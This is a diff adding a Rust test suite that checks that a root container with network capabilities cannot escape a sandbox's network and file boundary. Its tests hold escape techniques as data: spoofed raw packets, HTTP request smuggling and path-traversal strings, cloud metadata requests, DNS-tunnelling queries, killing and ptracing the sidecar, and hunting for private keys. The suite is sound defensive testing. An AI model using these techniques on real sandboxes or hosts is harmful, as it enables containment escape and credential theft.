@@ -1,0 +1,405 @@
+//! Escape attempts from inside a jailed container that holds root,
+//! CAP_NET_ADMIN, CAP_NET_RAW, CAP_KILL and the patched seccomp filter.
+//! Each one must fail to get a byte to a listener on the test origin or
+//! the host, checked by counters there and, where the protocol reaches the
+//! sidecar, in the audit log. Slots 200..=209.
+
+mod escape_world;
+
+use std::net::Ipv4Addr;
+use std::process::Command;
+use std::time::Duration;
+
+use boundary_tests::probe::{nslookup_answers, HttpReply};
+use boundary_tests::{poll_until, require_tool, Counts, HostSink, LeakSnapshot};
+use escape_world::{HostAddress, RawCounter, World, PROBE};
+
+const SCTP: i32 = 132;
+
+#[track_caller]
+fn assert_origin_untouched(w: &World, sink: &mut HostSink) {
+    assert_eq!(w.origin.counts_after_barrier(), Counts::default(), "something from the jail reached the origin");
+    assert_eq!(sink.counts_after_barrier(), (0, 0), "something from the jail reached the host sink on port {}", sink.port);
+}
+
+/// UDP datagrams, frames and raw packets at the origin, the sidecar's
+/// address, the host's loopback and the metadata address, by every socket
+/// type the container can open.
+fn send_everything(w: &World, port: u16, targets: &[Ipv4Addr]) {
+    let (src, mac) = (w.jail_addr(), w.host_mac());
+    let o = w.origin.addr();
+    let mut script = String::new();
+    for t in targets {
+        for p in [port, 7000, 443, 53] {
+            script += &format!("{PROBE} packet eth0 {mac} {src} {t} {p}; ");
+            script += &format!("{PROBE} raw-udp {src} {t} {p}; ");
+            // QUIC's first byte: a long-header Initial.
+            script += &format!("{PROBE} udp {t} {p} c00000000108000102030405060708; ");
+        }
+        script += &format!("{PROBE} raw-proto {t} {SCTP}; {PROBE} raw-proto {t} 253; ");
+    }
+    // A spoofed source, and the IPv4-mapped IPv6 form of the origin.
+    script += &format!("{PROBE} packet eth0 {mac} 192.0.2.77 {o} 7000; {PROBE} raw-udp 192.0.2.77 {o} 7000; ");
+    script += &format!("{PROBE} udp ::ffff:{o} 7000 00; {PROBE} udp ::ffff:{o} 443 c0; ");
+    script += &format!("{PROBE} sctp {o} 7000; true");
+    let out = w.exec(&script);
+    for line in out.stdout.lines() {
+        // The kernel lets the container send all of these; the boundary
+        // must drop them on the host side, not the kernel inside.
+        assert!(line.starts_with("sent") || line.starts_with("error: connect") || line.starts_with("error: SCTP socket"), "{line}\n{out}");
+    }
+    assert!(out.stdout.matches("sent").count() >= targets.len() * 12, "too few probes were sent:\n{out}");
+}
+
+#[test]
+fn packet_raw_sctp_quic_and_mapped_addresses_do_not_leave() {
+    let w = World::start(200, "esc-packets");
+    let mut sink = HostSink::bind(20200);
+    let _metadata = HostAddress::add("bte200", Ipv4Addr::new(169, 254, 169, 254));
+    let origin_sctp = RawCounter::start(Some(&w.origin_netns_path()), SCTP, w.origin.addr());
+    let host_sctp = RawCounter::start(None, SCTP, Ipv4Addr::LOCALHOST);
+    let rx_before = w.host_rx_packets();
+
+    let targets = [w.origin.addr(), w.sidecar(), w.origin.host_addr(), Ipv4Addr::LOCALHOST, Ipv4Addr::new(169, 254, 169, 254)];
+    send_everything(&w, sink.port, &targets);
+
+    assert!(w.host_rx_packets() >= rx_before + 100, "the probes did not even reach the host side of the veth");
+    assert_origin_untouched(&w, &mut sink);
+    assert_eq!(origin_sctp.count_after_barrier(), 0, "SCTP from the jail reached the origin");
+    assert_eq!(host_sctp.count_after_barrier(), 0, "SCTP from the jail reached the host");
+    assert_eq!(w.origin.requests(), Vec::<String>::new());
+}
+
+/// Control: with the jail's nft table removed, the same frames, raw
+/// datagrams and SCTP packets do arrive, so the test above can see a leak.
+#[test]
+fn the_packet_and_raw_probes_do_detect_a_missing_firewall() {
+    let w = World::start(201, "esc-control");
+    let mut sink = HostSink::bind(20201);
+    let host_sctp = RawCounter::start(None, SCTP, Ipv4Addr::LOCALHOST);
+    let jail = w.rt.jail(w.id);
+    let st = Command::new(require_tool("nft")).args(["delete", "table", "inet", &jail.nft_table]).status().expect("nft");
+    assert!(st.success());
+    let (src, mac, h, p) = (w.jail_addr(), w.host_mac(), w.sidecar(), sink.port);
+    w.exec(&format!("{PROBE} packet eth0 {mac} {src} {h} {p}; {PROBE} raw-udp {src} {h} {p}; {PROBE} raw-proto {h} {SCTP}"));
+    let (_, udp) = sink.counts_after_barrier();
+    assert!(udp >= 6, "without the firewall the host sink should get the frames and raw datagrams (3 each), got {udp}");
+    assert!(host_sctp.count_after_barrier() >= 3, "without the firewall the host should get the raw SCTP packets");
+    w.rt.delete_force(w.id).ok();
+    w.rt.leaks().assert_same_as(&LeakSnapshot::default());
+}
+
+/// Flushing routes and rules, a new address, new interfaces, a nested
+/// user+network namespace wired to the jail by a veth (the kernel here
+/// has no bridge or dummy links to offer): then UDP, TCP, frames and ICMP from the jail and from
+/// the nested namespace reach nothing.
+#[test]
+fn net_admin_reconfiguration_and_nested_namespaces_open_no_path() {
+    let w = World::start(202, "esc-netadmin");
+    let mut sink = HostSink::bind(20202);
+    let (o, h, p, mac) = (w.origin.addr(), w.sidecar(), sink.port, w.host_mac());
+    let new_addr = Ipv4Addr::from(u32::from(w.jail_addr()) ^ 0x80); // another address, outside the /30
+    w.exec("ip rule flush; ip route flush table main; ip route flush table local; true");
+    w.exec("ip rule add from all lookup main; ip rule add from all lookup local").ok();
+    w.exec(&format!("ip addr flush dev eth0 && ip addr add {new_addr}/24 dev eth0 && ip link set eth0 up")).ok();
+    w.exec(&format!("ip route add {h}/32 dev eth0 && ip route add default via {h} dev eth0")).ok();
+    w.exec("ip link add vx0 type veth peer name vx1").ok();
+    let out = w.exec(&format!(
+        "curl -s --max-time 1 tftp://{o}:7000/x; curl -s --max-time 1 tftp://{h}:{p}/x; \
+         echo hi | timeout 2 nc -w 1 {o} 7000; ping -c 1 -W 1 {o}; \
+         {PROBE} packet eth0 {mac} {new_addr} {o} 7000; {PROBE} raw-udp {new_addr} {h} {p}; true"
+    ));
+    assert!(out.stdout.contains("sent 3 frames"), "{out}");
+
+    // A nested user+network namespace holding one end of a veth, the
+    // other end bridged with eth0: its packets leave through the jail's
+    // veth with addresses of its own choosing.
+    let nested = format!(
+        "unshare -r -n sh -c 'echo $$ > /dev/shm/nested; sleep 30' & \
+         for i in $(seq 50); do [ -s /dev/shm/nested ] && break; sleep 0.1; done; pid=$(cat /dev/shm/nested); \
+         ip link add nv0 type veth peer name nv1; ip link set nv1 netns $pid; \
+         ip addr add {gw}/24 dev nv0; ip link set nv0 up; \
+         nsenter -t $pid -U -n --preserve-credentials sh -c '\
+           ip link set lo up; ip link set nv1 up; ip addr add {new2}/24 dev nv1; ip route add default via {gw} dev nv1; \
+           curl -s --max-time 1 tftp://{o}:7000/x; curl -s --max-time 1 tftp://{h}:{p}/x; \
+           echo hi | timeout 2 nc -w 1 {o} 7000; echo hi | timeout 2 nc -w 1 {h} {p}'; \
+         kill $pid; echo nested-done",
+        new2 = Ipv4Addr::new(198, 51, 100, 2),
+        gw = Ipv4Addr::new(198, 51, 100, 1),
+    );
+    let out = w.exec(&nested);
+    assert!(out.stdout.contains("nested-done"), "{out}");
+    // Links moved between the jail and a nested namespace stay behind
+    // the same veth: probe again after trying.
+    w.exec(&format!("unshare -r -n sh -c 'ip link add nx0 type veth peer name nx1 netns 1'; ip link set nx1 up; \
+        {PROBE} packet nx1 {mac} {new_addr} {o} 7000; true"));
+
+    assert_origin_untouched(&w, &mut sink);
+}
+
+fn http(w: &World, args: &str) -> HttpReply {
+    let out = w.exec(&format!("curl -sS --max-time 10 -D - {args}"));
+    HttpReply::parse(&out.stdout).unwrap_or_else(|| panic!("not an HTTP reply:\n{out}"))
+}
+
+/// All TCP, to any address and port, lands on the proxy: direct IPs on
+/// several ports, IPv4-mapped destinations, CONNECT to a port no rule
+/// allows, non-HTTP bytes to 80 and 443, a smuggled request after an
+/// allowed one, path confusion, the sidecar's own address on other ports.
+#[test]
+fn tcp_to_any_address_and_port_is_judged_by_the_proxy() {
+    let w = World::start(203, "esc-tcp");
+    let mut sink = HostSink::bind(20203);
+    let (o, h, p) = (w.origin.addr(), w.sidecar(), sink.port);
+
+    // Allowed, to show the world works.
+    assert_eq!(http(&w, "http://origin.test/allowed/ok").status, 200);
+
+    // Direct IP, several ports: HTTP gets 403, other bytes are closed.
+    for port in [80, 443, 7000, 22, 8080, 5432] {
+        let r = http(&w, &format!("http://{o}:{port}/allowed/ip"));
+        assert_eq!((r.status, r.header("x-boundary-decision")), (403, Some("deny")), "port {port}: {r:?}");
+        let reply = w.probe(&format!("tcp {o} {port} 'SSH-2.0-OpenSSH_9.0\\r\\n'"));
+        assert!(reply == "reply:" || reply.starts_with("error"), "non-HTTP bytes to {o}:{port} got an answer: {reply}");
+    }
+    // The origin's name on a port no rule allows.
+    let r = http(&w, "http://origin.test:7000/allowed/port");
+    assert_eq!(r.status, 403, "{r:?}");
+    // IPv4-mapped IPv6 destinations.
+    let r = http(&w, &format!("'http://[::ffff:{o}]/allowed/mapped'"));
+    assert_eq!(r.status, 403, "{r:?}");
+    let r = http(&w, &format!("--resolve origin.test:7000:[::ffff:{o}] http://origin.test:7000/allowed/mapped"));
+    assert_eq!(r.status, 403, "{r:?}");
+    // CONNECT to a port no rule allows, to a denied host, and CONNECT to
+    // an allowed port followed by bytes that are neither TLS nor HTTP.
+    // (The CONNECT itself is accepted for an allowed host whatever the
+    // port: the policy API judges hosts alone here. Every request inside
+    // is judged with the tunnel's port, so nothing reaches port 7000.)
+    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:7000 HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\nhello'"));
+    assert!(!reply.contains("hello") && !reply.contains("origin saw"), "{reply}");
+    let inner = "GET /allowed/tunnel HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\n";
+    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:7000 HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\n{inner}'"));
+    assert!(reply.contains("HTTP/1.1 403") && !reply.contains("origin saw"), "a request in a CONNECT tunnel to port 7000 was not refused: {reply}");
+    let reply = w.probe(&format!("tcp {o} 443 'CONNECT denied.test:443 HTTP/1.1\\r\\nHost: denied.test:443\\r\\n\\r\\n'"));
+    assert!(reply.starts_with("reply: HTTP/1.1 403"), "{reply}");
+    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:443 HTTP/1.1\\r\\nHost: origin.test:443\\r\\n\\r\\nSSH-2.0-x\\r\\n'"));
+    assert!((reply.starts_with("reply: HTTP/1.1 200") || reply.starts_with("reply: HTTP/1.1 403")) && !reply.contains("SSH"), "{reply}");
+    // Non-HTTP bytes to 80 and 443 of an allowed name's address.
+    for port in [80, 443] {
+        let reply = w.probe(&format!("tcp {o} {port} '\\x00\\x01binary\\xff\\r\\n\\r\\n'"));
+        assert_eq!(reply, "reply:", "port {port}");
+    }
+    // A smuggled request after an allowed one on one connection.
+    let smuggle = "GET /allowed/first HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n\
+POST /allowed/second HTTP/1.1\\r\\nHost: origin.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n\
+GET /private/smuggled HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n";
+    let reply = w.probe(&format!("tcp {o} 80 '{smuggle}'"));
+    assert!(reply.starts_with("reply: HTTP/1.1 200") && reply.contains("HTTP/1.1 400"), "{reply}");
+    // Path confusion, sent as is.
+    for path in ["/allowed/..%2Fprivate", "/allowed/../private", "/allowed/%2e%2e/private", "/allowed/..%2f..%2fprivate"] {
+        let r = http(&w, &format!("--path-as-is 'http://origin.test{path}'"));
+        assert_eq!(r.status, 403, "{path}: {r:?}");
+        let r = http(&w, &format!("--path-as-is 'https://origin.test{path}'"));
+        assert_eq!(r.status, 403, "{path}: {r:?}");
+    }
+    // The sidecar's own address, other ports.
+    for port in [22, 8080, 15001, 15053, p] {
+        let r = http(&w, &format!("http://{h}:{port}/"));
+        assert_eq!(r.status, 403, "sidecar port {port}: {r:?}");
+    }
+
+    assert_eq!(
+        w.origin.requests(),
+        ["http GET /allowed/ok host=origin.test", "http GET /allowed/first host=origin.test"],
+        "the origin must see only the allowed requests"
+    );
+    let allowed_only = Counts { http_requests: 2, ..Counts::default() };
+    assert_eq!(w.origin.counts_after_barrier(), allowed_only, "something but the two allowed requests reached the origin");
+    assert_eq!(sink.counts_after_barrier(), (0, 0), "something from the jail reached the host sink");
+    let audit = w.rt.audit_records(w.id);
+    for (what, f) in [
+        ("a non-HTTP refusal", Box::new(|r: &boundary_contract::AuditRecord| r.kind == "tcp" && r.decision == "deny") as Box<dyn Fn(&_) -> bool>),
+        ("the smuggling refusal", Box::new(|r: &boundary_contract::AuditRecord| r.status == Some(400))),
+        ("the CONNECT refusal", Box::new(|r: &boundary_contract::AuditRecord| r.method.as_deref() == Some("CONNECT") && r.decision == "deny")),
+        (
+            "the path confusion refusal",
+            Box::new(|r: &boundary_contract::AuditRecord| r.url.as_deref().is_some_and(|u| u.contains("..%2Fprivate")) && r.decision == "deny"),
+        ),
+    ] {
+        assert!(audit.iter().any(f), "no audit record for {what}: {audit:#?}");
+    }
+}
+
+/// The host's loopback and the cloud metadata address (given to a host
+/// dummy link here, so a leak would land on the host sink), even under
+/// `domain=*`.
+#[test]
+fn host_loopback_and_metadata_are_unreachable_even_under_domain_star() {
+    let w = World::start_with(204, "esc-meta", |s| s.default_rule("domain=*"), |b| b);
+    let mut sink = HostSink::bind(20204);
+    let _metadata = HostAddress::add("bte204", Ipv4Addr::new(169, 254, 169, 254));
+    let p = sink.port;
+    let o = w.origin.addr();
+    let mut answered = 0;
+    for host in ["127.0.0.1", "169.254.169.254", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]", "[::1]", "2130706433", "0x7f.1"] {
+        // Straight at the address (the container's own loopback for some),
+        // and through the proxy with that Host.
+        for extra in ["", &format!("--connect-to ::{o}:80")] {
+            let out = w.exec(&format!("curl -sS --max-time 10 -D - {extra} 'http://{host}:{p}/latest/meta-data/'"));
+            if let Some(r) = HttpReply::parse(&out.stdout) {
+                assert!(r.status == 403 || r.status == 502 || r.status == 400, "{host} {extra}: {r:?}");
+                answered += 1;
+            }
+        }
+    }
+    assert!(answered >= 6, "too few of the requests reached the sidecar ({answered})");
+    // route_localnet trickery inside: /proc/sys is read-only for the
+    // container, and a frame to 127.0.0.1 is dropped on the host side.
+    let out = w.exec("echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet");
+    assert!(!out.success(), "the container could set route_localnet:\n{out}");
+    w.exec(&format!("ip route add 127.0.0.1/32 via {} dev eth0 table main; true", w.sidecar()));
+    let (src, mac) = (w.jail_addr(), w.host_mac());
+    w.exec(&format!(
+        "{PROBE} packet eth0 {mac} {src} 127.0.0.1 {p}; {PROBE} packet eth0 {mac} {src} 169.254.169.254 {p}; \
+         {PROBE} raw-udp {src} 127.0.0.1 {p}; {PROBE} udp 169.254.169.254 {p} 00"
+    ));
+    assert_eq!(sink.counts_after_barrier(), (0, 0), "the host's loopback or the metadata address was reached");
+    let refusals = w.rt.audit_records(w.id).into_iter().filter(|r| r.decision == "deny" || r.status == Some(502)).count();
+    assert!(refusals >= answered, "the refusals must be audited: {:#?}", w.rt.audit_records(w.id));
+}
+
+/// The CA key, the sidecar's config and policy, the jail record and the
+/// audit log: not reachable by path from inside, not even by guessing.
+#[test]
+fn the_boundarys_files_cannot_be_read_or_written_from_inside() {
+    let w = World::start(205, "esc-files");
+    let dirs = &w.rt.dirs;
+    let secrets = [
+        dirs.ca_dir.join("ca.key"),
+        dirs.ca_dir.join("ca.pem"),
+        dirs.state_root.join(w.id).join("sidecar.json"),
+        dirs.state_root.join(w.id).join("jail.json"),
+        w.rt.audit_path(w.id),
+        w.rt.config_file.clone(),
+    ];
+    for s in &secrets {
+        assert!(s.exists(), "{} should exist on the host", s.display());
+        let path = s.display();
+        let out = w.exec(&format!("cat {path}"));
+        assert!(!out.success() && out.stdout.is_empty(), "{path} is readable inside:\n{out}");
+        let out = w.exec(&format!("echo x >> {path}"));
+        assert!(!out.success(), "{path} is writable inside:\n{out}");
+    }
+    let out = w.exec("find / -xdev \\( -name 'ca.key' -o -name 'sidecar.json' -o -name '*.jsonl' \\) 2>/dev/null; true");
+    assert_eq!(out.stdout.trim(), "", "{out}");
+    let out = w.exec("grep -rl 'PRIVATE KEY' /etc /tmp /root 2>/dev/null; true");
+    assert_eq!(out.stdout.trim(), "", "{out}");
+    // The sidecar's processes are not in the container's /proc.
+    for pid in w.sidecar_pids() {
+        let out = w.exec(&format!("cat /proc/{pid}/cmdline"));
+        assert!(!out.stdout.contains("boundary-sidecar"), "{out}");
+    }
+    let key = std::fs::read(&secrets[0]).expect("read ca.key");
+    assert!(!key.is_empty());
+}
+
+/// In its own pid namespace (the normal case) the container cannot name
+/// the sidecar's pids: kill and ptrace fail, the sidecar lives on.
+#[test]
+fn signals_and_ptrace_cannot_reach_the_sidecar() {
+    let w = World::start(206, "esc-signal");
+    let pids = w.sidecar_pids();
+    assert!(!pids.is_empty());
+    for pid in &pids {
+        let out = w.exec(&format!("kill -9 {pid}"));
+        assert!(!out.success(), "kill -9 {pid} succeeded inside:\n{out}");
+        let line = w.probe(&format!("ptrace {pid}"));
+        assert!(line.starts_with("error:"), "ptrace {pid}: {line}");
+    }
+    let out = w.exec("kill -9 -1; true"); // every process the container may signal
+    let _ = out;
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(w.sidecar_pids(), pids, "a sidecar process died");
+    for pid in &pids {
+        assert!(std::path::Path::new(&format!("/proc/{pid}")).exists(), "sidecar pid {pid} is gone");
+    }
+}
+
+/// A container sharing the host's pid namespace (a spec that asks for
+/// more) sees the sidecar; ptrace fails (no CAP_SYS_PTRACE, not dumpable)
+/// and killing it only fails closed.
+#[test]
+fn with_the_host_pid_namespace_killing_the_sidecar_only_fails_closed() {
+    let w = World::start_with(
+        207,
+        "esc-hostpid",
+        |s| s,
+        |b| {
+            b.edit(|s| {
+                let ns = s["linux"]["namespaces"].as_array_mut().expect("namespaces");
+                ns.retain(|n| n["type"] != "pid");
+            })
+        },
+    );
+    let mut sink = HostSink::bind(20207);
+    assert_eq!(http(&w, "http://origin.test/allowed/before").status, 200);
+    let pids = w.sidecar_pids();
+    let ps = w.exec("ps -o pid,args").ok();
+    assert!(ps.stdout.contains("boundary-sidecar"), "with the host pid namespace the sidecar is visible:\n{ps}");
+    for pid in &pids {
+        let line = w.probe(&format!("ptrace {pid}"));
+        assert!(line.starts_with("error:"), "ptrace {pid} from inside: {line}");
+        let out = w.exec(&format!("cat /proc/{pid}/environ /proc/{pid}/mem"));
+        assert!(out.stdout.is_empty(), "read the sidecar's memory or environment:\n{out}");
+    }
+    for pid in &pids {
+        w.exec(&format!("kill -9 {pid}"));
+    }
+    poll_until(Duration::from_secs(5), "the sidecar to be gone", || w.sidecar_pids().is_empty().then_some(()));
+    let o = w.origin.addr();
+    let out = w.exec(&format!("curl -sS --max-time 3 --resolve origin.test:80:{o} http://origin.test/allowed/after"));
+    assert!(!out.success(), "with the sidecar killed nothing may get through:\n{out}");
+    let out = w.exec(&format!("curl -sS --max-time 3 --resolve origin.test:443:{o} https://origin.test/allowed/after"));
+    assert!(!out.success(), "{out}");
+    w.exec(&format!("{PROBE} udp {o} 7000 00; nslookup -timeout=1 origin.test {o}; true"));
+    assert_eq!(w.origin.requests(), ["http GET /allowed/before host=origin.test"]);
+    assert_eq!(w.origin.counts_after_barrier(), Counts { http_requests: 1, ..Counts::default() });
+    assert_eq!(sink.counts_after_barrier(), (0, 0));
+}
+
+/// DNS to Docker's resolver address and to an IPv6 resolver: the
+/// former answered by the sidecar or nobody, the latter dropped.
+#[test]
+fn dns_tunnelling_via_127_0_0_11_and_ipv6_resolvers_reaches_no_resolver() {
+    let w = World::start(208, "esc-dns");
+    let sidecar = w.sidecar().to_string();
+    let label = "a".repeat(60);
+    for server in ["127.0.0.11", &sidecar, &w.origin.addr().to_string(), "192.0.2.53"] {
+        let out = w.exec(&format!("nslookup -timeout=2 {label}.exfil.denied.example {server}"));
+        let answers = nslookup_answers(&out.stdout);
+        assert!(answers.iter().all(|a| *a == sidecar), "{server}: {out}");
+    }
+    // IPv6: give the jail an address and route as it could itself.
+    let jail = w.rt.jail(w.id);
+    let host6 = "fd00:213:208::1";
+    let ip = require_tool("ip");
+    let ok = |c: &mut Command| assert!(c.status().expect("ip").success());
+    ok(Command::new(&ip).args(["-6", "addr", "add", &format!("{host6}/64"), "dev", &jail.host_if, "nodad"]));
+    // (From outside with nsenter: busybox `ip` has no `nodad`.)
+    let ns = format!("--net={}", jail.netns_path.display());
+    let nsenter = require_tool("nsenter");
+    let mac = w.host_mac();
+    for args in [
+        vec!["-6", "addr", "add", "fd00:213:208::2/64", "dev", "eth0", "nodad"],
+        vec!["-6", "route", "add", "default", "via", host6, "dev", "eth0"],
+        vec!["-6", "neigh", "replace", host6, "lladdr", &mac, "dev", "eth0", "nud", "permanent"],
+    ] {
+        ok(Command::new(&nsenter).arg(&ns).arg(&ip).args(&args));
+    }
+    let o6 = w.origin.addr6();
+    w.exec(&format!("nslookup -timeout=2 {label}.exfil.denied.example {o6}; nslookup -timeout=2 x.denied.example {host6}; true"));
+    assert_eq!(w.origin.counts_after_barrier().dns_queries, 0, "a query reached the origin's resolver");
+    let dns: Vec<_> = w.rt.audit_records(w.id).into_iter().filter(|r| r.kind == "dns").collect();
+    assert!(dns.iter().all(|r| r.decision == "deny"), "{dns:#?}");
+    assert!(!dns.is_empty(), "the sidecar's answers must be audited");
+}
